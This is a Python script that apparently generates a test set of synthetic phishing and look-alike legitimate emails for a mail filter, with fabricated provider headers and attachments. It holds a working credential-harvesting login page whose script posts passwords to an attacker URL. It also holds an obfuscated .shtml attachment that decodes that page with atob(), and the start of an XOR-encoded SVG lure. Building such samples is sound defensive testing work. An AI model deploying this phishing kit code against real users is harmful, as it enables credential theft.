"""Build the fourth blind set (files prefixed ``b4-``) and its manifest.

Run from the repository root:

    .venv/bin/python samples/tools/build_blind4_samples.py

The fourth blind set is forty-seven phishing messages of 2023-2026 and
twenty-six legitimate look-alikes, written without reading the engine, as
they sit in the recipient's mailbox after a large provider received them
(Microsoft 365 / Outlook.com, Gmail, Orange, GMX, Libero, UOL): the
provider's Received chain, Authentication-Results (and ARC where the
provider adds it) above the sender's own headers.

Unlike the earlier sets, every b4 message is written by this script, text-only
or not, so that the headers, boundaries and encodings come out of one place
and the files are byte-identical on every run. The set leans on what is hard
for a filter: attachments that carry the lure (HTML, SHTML and SVG with
obfuscated script, a PDF that is one button, a ZIP holding a web page, a
forwarded .eml, a calendar invitation, a Word file with a link), phishing sent
through genuine services (Google Docs comments, Microsoft Forms, Dropbox
Transfer, Adobe Acrobat, Canva, DocSend, HubSpot, Mailchimp, PayPal and
QuickBooks invoices, Google Calendar), thread hijacking, link-less BEC,
callback scams whose number is only in a PDF or a picture, SMS-style one-link
messages, QR codes, and text obfuscation (zero-width and soft-hyphen
characters, homoglyphs, entities, split spans, hidden filler). The legitimate
messages are the genuine versions of the same.

DKIM signatures, ARC seals and antispam stamps have the right shape but are
not real signatures. ``tools/blind4_manifest.txt`` (written by this script)
lists every b4 file with its verdict and what a filter must notice.
"""

from __future__ import annotations

import base64
import html as htmllib
import io
import zlib
from datetime import datetime
from pathlib import Path

import files
import mime
from build_blind3_samples import (ALNUM, HEX, UPALNUM, b64, digits, dkim, gmail_in, guid, hdr, hexs, m365_in,
                                  orange_in, qr_png, rb64, rfc, rnd, sig_value, text_picture, when)
from mime import Leaf, Multi

ROOT = Path(__file__).resolve().parents[1] / "mail"
MANIFEST = Path(__file__).resolve().parent / "blind4_manifest.txt"
LOWER = "abcdefghijklmnopqrstuvwxyz"
LOWNUM = "abcdefghijklmnopqrstuvwxyz0123456789"

ENTRIES: list[tuple[str, str, str]] = []


# --------------------------------------------------------------------------
# writing


def emit(folder: str, name: str, note: str, top: str, sender: str, node, bottom: str = "") -> None:
    """Write one message: the receiving provider's stamps (``top``), the sender's headers,
    the MIME headers of ``node``, the provider's trailing block (``bottom``), a blank line, the body."""
    rendered = mime.render_part(node)
    ct, body = rendered.split(b"\n\n", 1)
    head = top + sender.strip("\n") + "\n" + ct.decode("ascii") + "\n" + bottom
    head = head.rstrip("\n")
    for line in head.split("\n"):
        line.encode("ascii")  # headers are ASCII; non-ASCII text goes through hdr()
        assert len(line) < 998, line[:80]
    data = head.encode("ascii") + b"\n\n" + body
    path = ROOT / folder / f"b4-{name}.eml"
    path.write_bytes(data)
    ENTRIES.append((f"samples/mail/{folder}/b4-{name}.eml", folder, note))
    print("wrote", path.relative_to(ROOT.parent.parent))


def write_manifest() -> None:
    lines = [f"{path} | {verdict} | {note}" for path, verdict, note in sorted(ENTRIES)]
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print("wrote", MANIFEST.relative_to(ROOT.parent.parent), len(lines), "entries")


# --------------------------------------------------------------------------
# MIME shortcuts


def txt(content: str, encoding: str = "quoted-printable", charset: str = "utf-8") -> Leaf:
    return mime.text(content, "plain", encoding, charset)


def htm(content: str, encoding: str = "quoted-printable", charset: str = "utf-8") -> Leaf:
    return mime.text(content, "html", encoding, charset)


def alt(boundary: str, text: str, html: str, encoding: str = "quoted-printable", charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [txt(text, encoding, charset), htm(html, encoding, charset)])


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


def att(content_type: str, name: str, data: bytes, inline: bool = False, cid: str | None = None) -> Leaf:
    return mime.attachment(content_type, name, data, inline, cid)


def b_outlook(seed: str, n: int = 0) -> str:
    return f"_00{n}_{rnd(seed, 52, UPALNUM)}_"


def b_gmail(seed: str) -> str:
    return "0000000000" + hexs(seed, 18)


def b_apple(seed: str) -> str:
    return "Apple-Mail=_" + guid(seed).upper()


def b_tbird(seed: str) -> str:
    return "------------" + rnd(seed, 24, ALNUM)


def b_hex(seed: str, n: int = 32) -> str:
    return hexs(seed, n)


def para_html(text: str, font: str = "Calibri, Arial, Helvetica, sans-serif", size: str = "11pt") -> str:
    """Plain text as a mail client writes it in HTML: one div per line, links left as text."""
    out = []
    for line in text.rstrip("\n").split("\n"):
        out.append(f"<div>{htmllib.escape(line) if line else '<br>'}</div>")
    return (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            f'<body><div style="font-family:{font};font-size:{size};color:rgb(0,0,0)">\n'
            + "\n".join(out) + "\n</div></body></html>\n")


def outlook_html(text: str, lang: str = "FR") -> str:
    """Plain text as Outlook writes it (MsoNormal paragraphs)."""
    out = []
    for line in text.rstrip("\n").split("\n"):
        line = htmllib.escape(line) if line else "&nbsp;"
        out.append(f'<p class="MsoNormal"><span style="font-size:11.0pt;font-family:&quot;Aptos&quot;,sans-serif">{line}</span></p>')
    return (f'<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            f'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            f'<style><!--\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{{margin:0cm;font-size:11.0pt;font-family:"Aptos",sans-serif;}}\n'
            f'@page WordSection1\n\t{{size:612.0pt 792.0pt;margin:70.85pt 70.85pt 70.85pt 70.85pt;}}\n'
            f'div.WordSection1\n\t{{page:WordSection1;}}\n--></style>\n</head>\n'
            f'<body lang="{lang}" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n'
            + "\n".join(out) + "\n</div>\n</body>\n</html>\n")


# --------------------------------------------------------------------------
# the sending side


def gmail_out(seed: str, t, h: str = "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to") -> str:
    """The headers Gmail adds above a gmail.com user's message."""
    sel = "20230601" if t >= when("2023-06-15 00:00:00") else "20221208"
    return f"""\
{dkim('gmail.com', sel, seed + 'gd', t, h=h)}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
\td=1e100.net; s={sel}; t={int(t.timestamp()) - 2};
\th=to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;
\tbh={rb64(seed + 'gd' + 'bh', 32)};
\tb={sig_value(seed + 'xg')}
X-Gm-Message-State: AOJu0Y{rnd(seed + 'gms', 62)}
X-Google-Smtp-Source: AGHT+IF{rnd(seed + 'gss', 90)}
X-Received: by 2002:a05:6000:{hexs(seed + 'xr1', 3)}:b0:{hexs(seed + 'xr2', 3)}:{hexs(seed + 'xr3', 4)}:{hexs(seed + 'xr4', 4)} with SMTP id {rnd(seed + 'xr5', 28, LOWNUM)}.{digits(seed + 'xr6', 2)}.{int(t.timestamp())}{digits(seed + 'xr7', 3)};
        {rfc(t, 'America/Los_Angeles', seconds=-1)}
"""


def gmail_ids(seed: str, t, local: str = "CA") -> str:
    """A Gmail Message-ID."""
    return f"<{local}+{rnd(seed + 'mid', 50, ALNUM)}@mail.gmail.com>"


def m365_out(seed: str, t, domain: str, sel: str = "selector1", region: str = "EURP195",
             host: str = "PAVP195MB", attach: bool = False) -> tuple[str, str]:
    """Exchange Online's headers on an outgoing message from a tenant of ``domain``:
    (ARC + DKIM + the internal hops), (the MS per-message fields below Message-ID)."""
    box = f"{host}{digits(seed + 'bx', 4)}.{region}.PROD.OUTLOOK.COM"
    box2 = f"{host}{digits(seed + 'bx2', 4)}.{region}.PROD.OUTLOOK.COM"
    build = f"15.20.{7000 + (t.year - 2024) * 1200 + t.month * 90}.{10 + t.day}"
    sel_dom = domain.replace(".", "-")
    first = f"""\
ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b={sig_value(seed + 'as', 344, ' ')}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh={rb64(seed + 'ambh', 32)};
 b={sig_value(seed + 'amb', 344, ' ')}
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass
 smtp.mailfrom={domain}; dmarc=pass action=none header.from={domain};
 dkim=pass header.d={domain}; arc=none
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain};
 s={sel};
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;
 bh={rb64(seed + 'dbh', 32)};
 b={sig_value(seed + 'db', 344, ' ')}
Received: from {box} (2603:10a6:102:{hexs(seed + 'v1', 3)}::{hexs(seed + 'v2', 2)})
 by {box2} (2603:10a6:20b:{hexs(seed + 'v3', 3)}::{hexs(seed + 'v4', 2)}) with
 Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {rfc(t, seconds=-2)}
Received: from {box}
 ([fe80::{hexs(seed + 'f1', 4)}:{hexs(seed + 'f2', 4)}:{hexs(seed + 'f3', 4)}:{hexs(seed + 'f4', 4)}]) by {box}
 ([fe80::{hexs(seed + 'f1', 4)}:{hexs(seed + 'f2', 4)}:{hexs(seed + 'f3', 4)}:{hexs(seed + 'f4', 4)}%4]) with mapi id {build[:-2]}{int(build[-2:]) + 1:03d};
 {rfc(t, seconds=-2)}
"""
    mid = f"<{box.split('.')[0]}{rnd(seed + 'mid', 22, UPALNUM)}@{box}>"
    return first, mid


def m365_meta(seed: str, topic: str, lang: str = "fr-FR", attach: bool = False, index: str | None = None) -> str:
    topic_h = hdr(topic)
    return f"""\
Thread-Topic: {topic_h}
Thread-Index: {index or 'Ad' + rnd(seed + 'ti', 22) + '=='}
Accept-Language: {lang}, en-US
Content-Language: {lang}
X-MS-Has-Attach: {'yes' if attach else ''}
X-MS-TNEF-Correlator:
msip_labels:
"""


def m365_internal(rcpt: str, t, seed: str) -> str:
    """The two Received lines of a message between two mailboxes of Kerlann's own tenant."""
    a = f"PR1P264MB{digits(seed + 'a', 4)}.FRAP264.PROD.OUTLOOK.COM"
    b = f"PR1P264MB{digits(seed + 'b', 4)}.FRAP264.PROD.OUTLOOK.COM"
    return f"""\
Received: from {b} (::1) by
 {a} with HTTPS; {rfc(t, seconds=1)}
Received: from {b}
 ([fe80::{hexs(seed + 'f1', 4)}:{hexs(seed + 'f2', 4)}:{hexs(seed + 'f3', 4)}:{hexs(seed + 'f4', 4)}]) by {b}
 ([fe80::{hexs(seed + 'f1', 4)}:{hexs(seed + 'f2', 4)}:{hexs(seed + 'f3', 4)}:{hexs(seed + 'f4', 4)}%5]) with mapi id 15.20.{7000 + (t.year - 2024) * 1200 + t.month * 90}.0{10 + t.day};
 {rfc(t)}
"""


def m365_internal_bottom(t, seed: str, box: str, mailfrom: str) -> str:
    return f"""\
Return-Path: {mailfrom}
X-MS-Exchange-Organization-SCL: -1
X-MS-Exchange-Organization-AuthSource: {box}
X-MS-Exchange-Organization-AuthAs: Internal
X-MS-Exchange-Organization-AuthMechanism: 04
X-MS-Exchange-Organization-Network-Message-Id: {guid(seed + 'net')}
X-MS-Exchange-Organization-MessageDirectionality: Originating
X-MS-Exchange-Organization-RecordReviewCfmType: 0
X-MS-PublicTrafficType: Email
X-MS-Exchange-Transport-EndToEndLatency: 00:00:00.{digits(seed + 'lat', 7)}
X-MS-Exchange-Processed-By-BccFoldering: 15.20.{7000 + (t.year - 2024) * 1200 + t.month * 90}.0{10 + t.day}
X-Microsoft-Antispam-Mailbox-Delivery: ucf:0;jmr:0;auth:0;dest:I;ENG:(910005)(944506478)(944626604)(920097)(425001)(930097)(3100021)(140003);
"""


# --------------------------------------------------------------------------
# more receiving providers


def gmx_in(rcpt: str, t, ip: str, helo: str, mailfrom: str, spf: str, dkim_res: tuple[str, str] | None,
           dmarc: str, from_domain: str, seed: str, junk: bool = False) -> str:
    """GMX / WEB.DE (United Internet) inbound stamps."""
    node = f"mxgmx{int(digits(seed + 'n', 3)) % 120:03d}"
    parts = [f"dkim={dkim_res[1]} header.d={dkim_res[0]}" if dkim_res else "dkim=none"]
    parts.append(f"spf={spf} smtp.mailfrom={mailfrom}")
    parts.append(f"dmarc={dmarc} header.from={from_domain}")
    ar = ";\n\t".join(parts)
    return f"""\
Return-Path: <{mailfrom}>
Authentication-Results: gmx.net;
\t{ar}
Received: from {helo} ([{ip}]) by mx-ha.gmx.net
 ({node}) with ESMTPS (Nemesis) id 1M{rnd(seed + 'id1', 9, ALNUM)}-1{rnd(seed + 'id2', 9, ALNUM)} for
 <{rcpt}>; {rfc(t, 'Europe/Berlin')}
X-GMX-Antivirus: 0 (no virus found)
X-GMX-Antispam: {'5 (nemesis text pattern profiler); Detail=V3;' if junk else '0 (Mail was not recognized as spam); Detail=V3;'}
X-UI-Filterresults: {'junk:10' if junk else 'notjunk:1'};V03:K0:{rnd(seed + 'f1', 11, ALNUM)}={rnd(seed + 'f2', 6, ALNUM)}:{rnd(seed + 'f3', 44)}
X-UI-Loop: V01:{rnd(seed + 'l', 11, ALNUM)}=:{rnd(seed + 'l2', 40)}
"""


def libero_in(rcpt: str, t, ip: str, helo: str, mailfrom: str, spf: str, dkim_res: tuple[str, str] | None,
              dmarc: str, from_domain: str, seed: str) -> str:
    """Italiaonline (libero.it) inbound stamps."""
    mx = f"smtp-{int(digits(seed + 'n', 2)) % 40:02d}.iol.local"
    parts = [f"spf={spf} smtp.mailfrom={mailfrom}"]
    parts.append(f"dkim={dkim_res[1]} header.d={dkim_res[0]}" if dkim_res else "dkim=none")
    parts.append(f"dmarc={dmarc} header.from={from_domain}")
    ar = ";\n\t".join(parts)
    return f"""\
Return-Path: <{mailfrom}>
Received: from {mx} ([10.{int(digits(seed + 'a', 2)) % 30}.{int(digits(seed + 'b', 3)) % 250}.{int(digits(seed + 'c', 3)) % 250}])
\tby mailbox-{int(digits(seed + 'm', 2)) % 60:02d}.iol.local with LMTP id {rnd(seed + 'lm', 22, ALNUM)}
\tfor <{rcpt}>; {rfc(t, 'Europe/Rome', seconds=1)}
Received: from {helo} ([{ip}])
\tby {mx} with ESMTPS
\tid {rnd(seed + 'es', 16, ALNUM)}; {rfc(t, 'Europe/Rome')}
Authentication-Results: libero.it;
\t{ar}
X-CNFS-Analysis: v=2.4 cv={rnd(seed + 'cv', 16, ALNUM)} c=1 sm=1 tr=0 ts={hexs(seed + 'ts', 8)}
 cx=a_idp_f a=+{rnd(seed + 'aa', 22)}==:17 a={rnd(seed + 'ab', 22)}:1 a={rnd(seed + 'ac', 10, ALNUM)}:17
X-CMAE-Score: 0
"""


def uol_in(rcpt: str, t, ip: str, helo: str, mailfrom: str, spf: str, dkim_res: tuple[str, str] | None,
           dmarc: str, from_domain: str, seed: str) -> str:
    """UOL (uol.com.br) inbound stamps."""
    parts = [f"spf={spf} smtp.mailfrom={mailfrom}"]
    parts.append(f"dkim={dkim_res[1]} header.d={dkim_res[0]}" if dkim_res else "dkim=none")
    parts.append(f"dmarc={dmarc} header.from={from_domain}")
    ar = ";\n\t".join(parts)
    return f"""\
Return-Path: <{mailfrom}>
Delivered-To: {rcpt}
Received: from a-mx{int(digits(seed + 'n', 2)) % 12 + 1}.uol.com.br (a-mx{int(digits(seed + 'n', 2)) % 12 + 1}.uol.com.br [200.147.36.{int(digits(seed + 'o', 2)) % 60 + 10}])
\tby mbox{int(digits(seed + 'b', 2)) % 30 + 1}.mail.uol.com.br (Postfix) with ESMTP id {rnd(seed + 'q', 11, UPALNUM)}
\tfor <{rcpt}>; {rfc(t, 'America/Sao_Paulo', seconds=1)}
Received: from {helo} ([{ip}])
\tby a-mx{int(digits(seed + 'n', 2)) % 12 + 1}.uol.com.br (Postfix) with ESMTPS id 4{rnd(seed + 'p', 11, ALNUM)}
\tfor <{rcpt}>; {rfc(t, 'America/Sao_Paulo')}
Authentication-Results: mx.uol.com.br;
\t{ar}
X-UOL-SMTP: {rnd(seed + 'us', 40)}
X-UOL-SPAM-Score: 0.{digits(seed + 'ss', 1)}
"""


# --------------------------------------------------------------------------
# attachments


def _esc_pdf(s: str) -> str:
    return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_page(items: list[tuple], links: list[tuple[tuple[int, int, int, int], str]] = (),
             title: str = "", producer: str = "Microsoft: Print To PDF", author: str = "",
             image: tuple[bytes, int, int, int, int] | None = None, created: str = "D:20250101000000Z") -> bytes:
    """A one-page A4 PDF. ``items`` are ("text", x, y, size, text, (r, g, b), bold) or
    ("rect", x1, y1, x2, y2, (r, g, b)); ``links`` are link annotations over a rectangle;
    ``image`` is (grey 8-bit pixels, width, height, x, y) drawn at 1 pt per pixel (a QR code)."""
    ops = []
    for item in items:
        if item[0] == "rect":
            _, x1, y1, x2, y2, (r, g, b) = item
            ops.append(f"{r:.2f} {g:.2f} {b:.2f} rg {x1} {y1} {x2 - x1} {y2 - y1} re f")
        else:
            _, x, y, size, text, (r, g, b), bold = item
            ops.append(f"{r:.2f} {g:.2f} {b:.2f} rg BT /{'F2' if bold else 'F1'} {size} Tf {x} {y} Td "
                       f"({_esc_pdf(text)}) Tj ET")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        None,  # page, below
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
        None,  # contents, below
    ]
    xobj = ""
    if image:
        pixels, w, h, x, y = image
        ops.append(f"q {w} 0 0 {h} {x} {y} cm /Im1 Do Q")
        data = zlib.compress(pixels, 9)
        objects.append(b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                       b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % (w, h, len(data))
                       + data + b"\nendstream")
        xobj = f" /XObject << /Im1 {len(objects)} 0 R >>"
    stream = zlib.compress("\n".join(ops).encode("cp1252"), 9)
    objects[5] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"
    annot_refs = []
    for (x1, y1, x2, y2), uri in links:
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [{x1} {y1} {x2} {y2}] /Border [0 0 0] "
                       f"/A << /Type /Action /S /URI /URI ({_esc_pdf(uri)}) >> >>".encode())
        annot_refs.append(f"{len(objects)} 0 R")
    annots = f" /Annots [{' '.join(annot_refs)}]" if annot_refs else ""
    objects[2] = (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R /F2 5 0 R >>"
                  f"{xobj} >> /Contents 6 0 R{annots} >>").encode()
    objects.append(f"<< /Title ({_esc_pdf(title)}) /Author ({_esc_pdf(author)}) /Producer ({_esc_pdf(producer)}) "
                   f"/CreationDate ({created}) /ModDate ({created}) >>".encode("cp1252"))
    return files.pdf_file(objects, len(objects))


def T(x, y, size, text, colour=(0, 0, 0), bold=False):
    return ("text", x, y, size, text, colour, bold)


def R(x1, y1, x2, y2, colour):
    return ("rect", x1, y1, x2, y2, colour)


def qr_grey(data: str, scale: int = 4, border: int = 4) -> tuple[bytes, int, int]:
    """A QR code as 8-bit grey pixels (for a PDF image)."""
    import segno

    matrix = segno.make(data, error="m", micro=False).matrix
    n = len(matrix) + 2 * border
    rows = []
    for r in range(n):
        row = bytearray()
        for c in range(n):
            rr, cc = r - border, c - border
            dark = 0 <= rr < len(matrix) and 0 <= cc < len(matrix) and matrix[rr][cc]
            row += (b"\x00" if dark else b"\xff") * scale
        rows.append(bytes(row) * scale)
    return b"".join(rows), n * scale, n * scale


def docx_with_link(paragraphs: list[tuple[str, str | None]], title: str, author: str,
                   company: str = "", modified_by: str = "") -> bytes:
    """A Word document whose paragraphs are (text, url-or-None); a url makes the paragraph a hyperlink."""
    from xml.sax.saxutils import escape

    W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' \
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    body = []
    rels = []
    for text, url in paragraphs:
        run = f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'
        if url:
            rid = f"rId{10 + len(rels)}"
            rels.append(f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        f'relationships/hyperlink" Target="{escape(url)}" TargetMode="External"/>')
            run = (f'<w:hyperlink r:id="{rid}" w:history="1"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/>'
                   f'<w:color w:val="0563C1"/><w:u w:val="single"/></w:rPr><w:t xml:space="preserve">{escape(text)}'
                   f'</w:t></w:r></w:hyperlink>')
        body.append(f"<w:p>{run}</w:p>")
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document {W}><w:body>'
                + "".join(body) + "<w:sectPr/></w:body></w:document>").encode()
    content_types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                     '<Default Extension="xml" ContentType="application/xml"/>'
                     '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                     'wordprocessingml.document.main+xml"/>'
                     '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.'
                     'core-properties+xml"/>'
                     '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                     'extended-properties+xml"/></Types>').encode()
    root_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 b'officeDocument" Target="word/document.xml"/>'
                 b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
                 b'core-properties" Target="docProps/core.xml"/>'
                 b'<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 b'extended-properties" Target="docProps/app.xml"/></Relationships>')
    doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                + "".join(rels) + "</Relationships>").encode()
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            f"<dc:title>{escape(title)}</dc:title><dc:creator>{escape(author)}</dc:creator>"
            f"<cp:lastModifiedBy>{escape(modified_by or author)}</cp:lastModifiedBy>"
            '<dcterms:created xsi:type="dcterms:W3CDTF">2025-02-03T08:12:00Z</dcterms:created>'
            '<dcterms:modified xsi:type="dcterms:W3CDTF">2025-02-03T08:40:00Z</dcterms:modified>'
            "</cp:coreProperties>").encode()
    app = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
           f"<Application>Microsoft Office Word</Application><Company>{escape(company)}</Company>"
           "<AppVersion>16.0000</AppVersion></Properties>").encode()
    return files.zip_archive([
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", root_rels),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", doc_rels),
        ("docProps/core.xml", core),
        ("docProps/app.xml", app),
    ])


def ics_fold(text: str) -> str:
    """Fold iCalendar content lines at 74 octets with CRLF + space (RFC 5545)."""
    out = []
    for line in text.strip("\n").split("\n"):
        raw = line.encode("utf-8")
        chunks = []
        while len(raw) > 74:
            cut = 74
            while cut > 0 and (raw[cut] & 0xC0) == 0x80:
                cut -= 1
            chunks.append(raw[:cut])
            raw = raw[cut:]
        chunks.append(raw)
        out.append(b"\r\n ".join(chunks).decode("utf-8"))
    return "\r\n".join(out) + "\r\n"


def ics_text(s: str) -> str:
    return s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def png_text(rows, width=600, button=None) -> bytes:
    return text_picture(rows, width, button)


# ==========================================================================
# PHISHING 1: attachments that carry the lure


def login_page(brand: str, email: str, action: str, lang: str = "en", note: str = "") -> str:
    """The credential form a kit writes into the attachment (Microsoft-style sign-in)."""
    words = {
        "en": ("Sign in", "Because you're accessing sensitive info, you need to verify your password.", "Password", "Sign in",
               "Forgot my password"),
        "fr": ("Connexion", "Pour consulter ce document, confirmez le mot de passe de votre messagerie.", "Mot de passe",
               "Se connecter", "Mot de passe oublié"),
        "de": ("Anmelden", "Um das Dokument anzuzeigen, bestätigen Sie bitte das Passwort Ihres E-Mail-Kontos.", "Passwort",
               "Anmelden", "Passwort vergessen"),
    }[lang]
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>{words[0]}</title>
<style>
body{{margin:0;background:#f2f2f2 url(https://aadcdn.msauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg) center/cover;font-family:"Segoe UI",Arial,sans-serif}}
.box{{width:440px;margin:110px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
input{{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:14px 0}}
button{{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right}}
</style></head>
<body><div class="box">
<img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" width="108" alt="{brand}">
<div id="em" style="margin-top:16px;font-size:15px">{email}</div>
<h2 style="font-weight:600;font-size:24px;margin:12px 0">{words[0]}</h2>
<p style="font-size:13px">{words[1]}{(' ' + note) if note else ''}</p>
<form id="f" method="post" action="{action}">
<input type="hidden" name="login" value="{email}">
<input type="password" name="passwd" id="pw" placeholder="{words[2]}" required autofocus>
<p style="font-size:13px"><a href="#" style="color:#0067b8">{words[4]}</a></p>
<button type="submit">{words[3]}</button>
</form>
<div id="err" style="color:#e81123;font-size:13px;display:none"></div>
</div>
<script>
var n=0;document.getElementById('f').onsubmit=function(e){{e.preventDefault();n++;
var d=new FormData(this);d.append('n',n);d.append('ua',navigator.userAgent);
fetch(this.action,{{method:'POST',body:d,mode:'no-cors'}}).then(function(){{
if(n<2){{var x=document.getElementById('err');x.style.display='block';x.textContent='Your account or password is incorrect.';document.getElementById('pw').value='';}}
else{{location.replace('https://www.office.com/');}}}});}};
</script>
</body></html>
"""


def p_shtml_atob() -> None:
    t = when("2024-10-15 07:42:18")
    rcpt = "sandrine.legoff@kerlann-industries.fr"
    frm = "accounts@tilbury-marine-supplies.co.uk"
    inner = login_page("Microsoft", "%%EM%%", "https://rmt-adv-portal.online/owa/next.php", "en",
                       "Sign in to view remittance RA-88412.")
    page = f"""<html>
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>&#8203;</title></head>
<body>
<script>
var _e = "{base64.b64encode(rcpt.encode()).decode()}";
var _p = "{base64.b64encode(inner.encode()).decode()}";
document.open();
document.write(decodeURIComponent(escape(atob(_p))).split("%%EM%%").join(atob(_e)));
document.close();
</script>
<noscript>Please enable JavaScript to view this remittance advice.</noscript>
</body>
</html>
"""
    out1, mid = m365_out("p1", t, "tilbury-marine-supplies.co.uk", region="GBRP123", host="LO2P123MB")
    top, bottom = m365_in(rcpt, t, "40.107.121.72", "GBR01-CWX-obe.outbound.protection.outlook.com", frm, "pass",
                          ("tilbury-marine-supplies.co.uk", "pass"), ("pass", "none"), "tilbury-marine-supplies.co.uk",
                          ("pass", "100"), "p1", ctry="GB", lang="en",
                          ptr="mail-cwxgbr01on2072.outbound.protection.outlook.com")
    text = """Good morning,

Please find attached remittance advice for the payment released today in
settlement of your outstanding invoices.

Kindly confirm receipt and let us know if anything is missing.

Kind regards,

Accounts Payable
Tilbury Marine Supplies Ltd
Unit 4, Thames Gateway Park, Tilbury RM18 7HX
"""
    subject = "Remittance Advice - Payment Ref: RA-88412"
    sender = f"""\
{out1}From: Accounts Payable <{frm}>
To: "{rcpt}" <{rcpt}>
Subject: {subject}
{m365_meta('p1', subject, 'en-GB', attach=True)}Date: {rfc(t, 'Europe/London', seconds=-3)}
Message-ID: {mid}
MIME-Version: 1.0
"""
    node = mixed(b_outlook("p1b", 4),
                 alt(b_outlook("p1a"), text, outlook_html(text, "EN-GB")),
                 att("text/html", "RA-88412_Remittance.shtml", page.encode()))
    emit("phishing", "remittance-shtml-attachment-atob-login", "hijacked supplier M365 mailbox (auth passes); .shtml attachment writes a Microsoft login from atob() with the recipient's address, posts to .online",
         top, sender, node, bottom)


def p_svg_charcode() -> None:
    t = when("2024-02-20 14:03:51")
    rcpt = "daniel.whitford82@outlook.com"
    target = "https://vm-playback.audiomsg-center.com/listen/"
    key = 23
    codes = ",".join(str(ord(c) ^ key) for c in target)
    svg = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
